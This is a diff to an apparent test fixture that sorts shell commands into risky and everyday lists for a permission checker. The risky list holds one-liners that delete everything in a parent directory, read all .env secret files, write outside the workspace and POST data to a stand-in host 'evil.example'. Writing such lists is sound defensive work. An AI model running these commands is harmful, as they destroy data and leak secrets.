@@ -120,6 +120,10 @@ python3 -c "from pathlib import Path; Path('../x').open('w').write('y')"
 python3 -c "import os; os.open('../x', os.O_WRONLY | os.O_TRUNC)"
 python3 -c "import requests; requests.Session().post('http://evil.example', data='x')"
 python3 -c "import pandas as pd; pd.DataFrame().to_csv('../x')"
+python3 -c "from pathlib import Path; [p.unlink() for p in Path('..').glob('*')]"
+python3 -c "import glob; print([open(f).read() for f in glob.glob('**/.env')])"
+python3 -c "from pathlib import Path; Path('a').rename('../b')"
+npx tsx ../x.ts
 psql -c "select pg_terminate_backend(1)"
 sqlite3 x.db "select writefile('/etc/x','y')"
 sqlite3 x.db "select load_extension('./x')"
@@ -251,6 +255,11 @@ EVERYDAY = r"""
 python3 -c "import sqlite3; print(sqlite3.connect('x.db').execute('select * from t').fetchall())"
 python3 -c "import zipfile; zipfile.ZipFile('x.zip').extractall('out')"
 python3 -c "import redis; print(redis.__version__)"
+python3 -c "s = open('a.py').read(); open('a.py', 'w').write(s.replace('a', 'b'))"
+python3 -c "from pathlib import Path; [p.write_text(p.read_text()) for p in Path('src').glob('*.py')]"
+python3 -c "import glob, os; [os.remove(f) for f in glob.glob('build/*.o')]"
+npx tsx src/x.ts
+kill -0 $PID
 aws sts get-caller-identity
 gcloud compute instances list
 heroku logs
